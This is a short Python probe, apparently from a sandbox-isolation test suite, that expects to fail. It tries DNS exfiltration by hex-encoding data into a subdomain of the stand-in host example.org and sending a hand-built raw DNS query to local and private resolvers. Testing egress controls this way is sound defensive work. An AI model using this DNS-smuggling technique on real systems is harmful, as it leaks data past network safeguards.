"""N02  Sends what it knows as names that somebody would have to look up.
EXPECT wrong crashed timed-out
"""
import socket
import struct

import armed


def attack():
    armed.ran("N02")
    for name in ("6c6162656c73.example.org", "localhost.example.net", "registry.npmjs.org", "host.docker.internal"):
        armed.probe("name " + name, lambda: socket.getaddrinfo(name, 80))
    query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x06labels\x07example\x03org\0" + struct.pack(">HH", 16, 1)
    for server in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "192.168.0.1", "10.0.0.1"):
        armed.probe("query " + server, lambda: answers(server, query))


def answers(server, query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(0.05)
        return udp.sendto(query, (server, 53)) and udp.recv(512)
